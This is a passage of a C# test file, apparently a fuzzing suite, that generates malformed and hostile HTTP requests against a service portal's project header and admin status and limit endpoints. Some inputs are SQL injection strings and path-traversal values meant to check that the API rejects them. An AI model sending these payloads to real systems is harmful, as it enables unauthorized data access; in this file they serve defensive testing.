            yield return new($"project header: {project[..Math.Min(project.Length, 30)]}", get, "/v1.0/services", ProjectHeader: project);
            yield return new($"project header on create: {project[..Math.Min(project.Length, 30)]}", post, services, U(Service().ToJsonString()), ProjectHeader: project);
        }
        yield return new("project header missing", get, "/v1.0/services", ProjectHeader: null);
        yield return new("project header with spaces around", get, "/v1.0/services", Expect: HostileExpect.Accepted, ProjectHeader: "  alpha  ");

        // ---- Admin endpoints -----------------------------------------------------------------------------------------------
        var status = "/v1.0/admin/services/status";
        foreach (var (name, body) in new (string, byte[])[]
        {
            ("lone surrogate status", U("{\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":\"\\ud800\"}")),
            ("lone surrogate project", U("{\"project_id\":\"\\udfff\",\"service_id\":\"{id}\",\"status\":\"failed\"}")),
            ("surrogate member name", U("{\"\\ud800\":1,\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":\"failed\"}")),
            ("invalid UTF-8 status", [.. U("{\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":\""), 0xFF, .. U("\"}")]),
            ("status as number", U("{\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":1}")),
            ("unknown status", U("{\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":\"DEPLOYED\"}")),
            ("service id traversal", U("{\"project_id\":\"alpha\",\"service_id\":\"../../{id}\",\"status\":\"failed\"}")),
            ("project sql", U("{\"project_id\":\"alpha' OR '1'='1\",\"service_id\":\"{id}\",\"status\":\"failed\"}")),
            ("array body", U("[]")),
            ("deep body", U(new string('[', 20) + new string(']', 20))),
            ("duplicate status", U("{\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":\"failed\",\"status\":\"deployed\"}")),
        })
        {
            yield return new($"admin status: {name}", post, status, body);
        }
        yield return new("admin status: deployed (valid)", post, status, U("{\"project_id\":\"alpha\",\"service_id\":\"{id}\",\"status\":\"deployed\"}"), HostileExpect.Accepted);
        var put = HttpMethod.Put;
        foreach (var (name, body) in new (string, byte[])[]
        {
            ("negative", U("{\"limit\":-1}")), ("huge", U("{\"limit\":1e10}")), ("fraction", U("{\"limit\":1.5}")), ("string", U("{\"limit\":\"5\"}")),
            ("null", U("{\"limit\":null}")), ("extra member", U("{\"limit\":5,\"x\":1}")), ("array", U("[5]")), ("deep", U(new string('[', 17) + new string(']', 17))),
            ("surrogate member name", U("{\"\\ud800\":5}")), ("invalid UTF-8 member name", [.. U("{\"li"), 0xFF, .. U("mit\":5}")]),
            ("duplicate limit", U("{\"limit\":5,\"limit\":10000}")), ("int overflow", U("{\"limit\":2147483648}")),
        })
        {
            yield return new($"admin limit: {name}", put, $"/v1.0/admin/limits/{PortalFactory.FirstProject}", body);
        }
        yield return new("admin limit: valid", put, $"/v1.0/admin/limits/{PortalFactory.FirstProject}", U("{\"limit\":10000}"), HostileExpect.Accepted);
        foreach (var project in new[] { "%01", "..%2Falpha", "alpha%0A", "%27%20OR%20%271%27%3D%271", new string('x', 3000) })
        {
            yield return new($"admin limit: project {Printable(project)[..Math.Min(project.Length, 30)]}", put, $"/v1.0/admin/limits/{project}", U("{\"limit\":1}"));
            yield return new($"admin limit read: project {Printable(project)[..Math.Min(project.Length, 30)]}", get, $"/v1.0/admin/limits/{project}");
        }
    }

    /// <summary>A case name must be printable: control characters shown as their code points.</summary>
    private static string Printable(string text) =>
        string.Concat(text.Select(c => c is < ' ' or '\x7f' ? $"\\x{(int)c:X2}" : c.ToString()));
}
